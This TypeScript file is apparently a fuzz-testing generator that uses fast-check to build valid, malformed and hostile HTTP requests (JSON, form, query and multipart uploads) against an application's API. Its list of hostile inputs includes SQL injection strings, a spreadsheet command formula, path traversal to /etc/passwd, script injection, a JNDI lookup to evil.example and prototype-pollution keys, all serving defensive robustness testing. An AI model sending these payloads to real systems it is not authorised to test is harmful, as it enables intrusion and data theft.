import type { Resource } from '@keyan/kernel/definition/resource.ts';
import { draftInput } from '@keyan/kernel/testing/arbitrary.ts';
import type { RowLike } from '@keyan/kernel/values/row.ts';
import fc from 'fast-check';
import type { Described, Parameter, Schema } from './calls.ts';

/** Request before sending. */
export interface Request {
  readonly call: Described;
  readonly query: readonly (readonly [name: string, value: string])[];
  readonly contentType: string | null;
  readonly body: string | Buffer | null;
}

/** Existing ids: of records, tasks, files, people and departments of all owners. */
export type Ids = readonly string[];

const hostileTexts = [
  '',
  ' ',
  '长'.repeat(3000),
  "1'; drop table paper; --",
  '" or 1=1 --',
  "=cmd|' /C calc'!A0",
  'a\u0000b',
  '\ud800',
  '\u202eadmin\u200b',
  '%_\\',
  '-1',
  '0',
  '9223372036854775807',
  '9223372036854775808',
  '2147483648',
  '1e309',
  'NaN',
  '0x10',
  '../../../../etc/passwd',
  '/\\evil.example',
  '//evil.example',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '2025-02-30',
  '2025-13-45 99:99:99',
  '0001-01-01',
  'constructor',
  '__proto__',
  'toString',
  `${'('.repeat(400)}1${')'.repeat(400)}`,
  '[[[[[[]]]]]]',
  'null',
  'undefined',
];

const hostileValues: readonly unknown[] = [
  null,
  true,
  {},
  [],
  [[]],
  [null],
  { toString: 1 },
  { toString: null, parameterValue: null },
  { toJSON: 'x' },
  { length: -1 },
  { id: { id: {} } },
  ['1', { a: 1 }, null],
  -1,
  1.5,
  1e20,
  Number.MAX_SAFE_INTEGER + 2,
];

const text = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ maxLength: 20 }),
);

/** Names for client-chosen properties, including those that every object inherits. */
const freeNames = [
  ...['toString', 'constructor', 'hasOwnProperty', 'valueOf', '__proto__', 'toJSON', 'length'],
  ...['id', 'version', 'name', 'title', 'remarks', 'auditStatus', 'userId', 'a.b', '0', ''],
] as const;

/** Generates an object whose names the client chooses. */
const freeRecord = (schema: Schema, ids: Ids): fc.Arbitrary<unknown> => {
  const [inner] = Object.values(schema.patternProperties ?? {});
  return fc
    .array(
      fc.tuple(
        fc.constantFrom(...freeNames),
        inner && Object.keys(inner).length > 0 ? fitting(inner, ids) : fc.oneof(text, scalar(ids)),
      ),
      { maxLength: 4 },
    )
    .map((entries) => Object.fromEntries(entries));
};

const scalar = (ids: Ids): fc.Arbitrary<unknown> =>
  fc.constantFrom<unknown>(1, '1', null, '2026-01-01', ...ids.slice(0, 20));

const fitting = (schema: Schema, ids: Ids): fc.Arbitrary<unknown> => {
  if (schema.enum && schema.enum.length > 0) return fc.constantFrom(...schema.enum);
  switch (schema.type) {
    case 'integer':
    case 'number':
      return fc.integer({ min: 0, max: 300 });
    case 'boolean':
      return fc.boolean();
    case 'array':
      return fc.array(fitting(schema.items ?? {}, ids), { maxLength: 3 });
    case 'object':
      if (!schema.properties) return freeRecord(schema, ids);
      return fc.record(
        Object.fromEntries(
          Object.entries(schema.properties).map(([name, each]) => [name, fitting(each, ids)]),
        ),
      );
    default:
      return fc.oneof(fc.constantFrom(...ids), fc.constantFrom('1', '2026-01-01', '测试', 'a,b'));
  }
};

const parameterValue = ({ schema }: Parameter, ids: Ids): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 5, arbitrary: fitting(schema, ids) },
    { weight: 3, arbitrary: text },
    { weight: 2, arbitrary: fc.constantFrom(...hostileValues) },
  );

/** Generates the parameters of a call, each valid, hostile or missing, and some unknown ones. */
const values = (call: Described, ids: Ids): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .tuple(
      fc.record(
        Object.fromEntries(call.parameters.map((one) => [one.name, parameterValue(one, ids)])),
        {
          requiredKeys: [],
        },
      ),
      fc.dictionary(fc.constantFrom('hacker', 'a.b', 'x y', 'ids', 'id', '_t'), text, {
        maxKeys: 1,
      }),
    )
    .map(([known, unknown]) => ({ ...unknown, ...known }));

/** Generates a record that is valid except for one value, so that the fault is found late. */
const spoiltRecord = (resource: Resource, ids: Ids): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .tuple(
      draftInput(resource, () => ids),
      fc.constantFrom(...Object.keys(resource.fields), 'id', 'version', 'attachments'),
      fc.oneof(text, fc.constantFrom(...hostileValues), fc.constantFrom(...ids)),
    )
    .map(([row, name, value]) => ({ ...row, [name]: value }));

const printed = (value: unknown): string => {
  if (typeof value === 'string') return value.toWellFormed();
  return JSON.stringify(value) ?? '';
};

const boundary = 'fuzz-boundary';

const multipart = (fields: RowLike, name: string, content: Buffer): Buffer => {
  const parts = Object.entries(fields).map(
    ([key, value]) =>
      `--${boundary}\r\ncontent-disposition: form-data; name="${key}"\r\n\r\n${printed(value)}\r\n`,
  );
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: application/octet-stream\r\n\r\n`;
  return Buffer.concat([
    Buffer.from(parts.join('') + head),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
};

const fileNames = ['a.pdf', 'a.xlsx', 'a.png', 'a.bpmn', '../a.pdf', 'a"b.pdf', '名.docx', '.', ''];
const fileHeads = [
  '%PDF-1.7\n',
  'PK\u0003\u0004',
  '\u0089PNG\r\n\u001a\n',
  '<?xml version="1.0"?><definitions>',
  '',
];

const upload = (call: Described, ids: Ids): fc.Arbitrary<Request> =>
  fc
    .tuple(
      values(call, ids),
      fc.constantFrom(...fileNames),
      fc.constantFrom(...fileHeads),
      fc.uint8Array({ maxLength: 2000 }),
    )
    .map(([fields, name, head, tail]) => ({
      call,
      query: [],
      contentType: `multipart/form-data; boundary=${boundary}`,
      body: multipart(fields, name, Buffer.concat([Buffer.from(head, 'latin1'), tail])),
    }));

const inAddress = (call: Described, given: RowLike): Request => ({
  call,
  // Addresses have a maximum length; long texts are sent in bodies.
  query: Object.entries(given).map(([name, value]) => [name, printed(value).slice(0, 1500)]),
  contentType: null,
  body: null,
});

const asJson = (call: Described, given: unknown): Request => ({
  call,
  query: [],
  contentType: 'application/json',
  body: JSON.stringify(given),
});

const asForm = (call: Described, given: RowLike): Request => ({
  call,
  query: [],
  contentType: 'application/x-www-form-urlencoded',
  body: new URLSearchParams(
    Object.entries(given).map(([name, value]): [string, string] => [name, printed(value)]),
  ).toString(),
});

const noBody = (call: Described): fc.Arbitrary<Request> =>
  fc
    .constantFrom(
      ['application/json', '{"id": '],
      ['application/json', '[]'],
      ['application/json', '"x"'],
      ['application/json', `{"a":"${'x'.repeat(4_300_000)}"}`],
      ['application/xml', '<id>1</id>'],
      ['multipart/form-data; boundary=x', '--x\r\ncontent-disp'],
      ['application/x-www-form-urlencoded', '%%%=%ff'],
    )
    .map(([contentType = '', body = '']) => ({ call, query: [], contentType, body }));

/** Generates requests to one call. `resource`: kind of the records that the call saves, if any. */
export const requestsTo = (
  call: Described,
  ids: Ids,
  resource: Resource | undefined,
): fc.Arbitrary<Request> => {
  const given = values(call, ids);
  if (call.method === 'GET') return given.map((each) => inAddress(call, each));
  return fc.oneof(
    { weight: 10, arbitrary: given.map((each) => asJson(call, each)) },
    { weight: 3, arbitrary: given.map((each) => asForm(call, each)) },
    { weight: 2, arbitrary: given.map((each) => inAddress(call, each)) },
    { weight: 1, arbitrary: noBody(call) },
    { weight: call.upload ? 20 : 0, arbitrary: upload(call, ids) },
    {
      weight: resource ? 15 : 0,
      arbitrary: resource
        ? spoiltRecord(resource, ids).map((each) => asJson(call, each))
        : given.map((each) => asJson(call, each)),
    },
  );
};
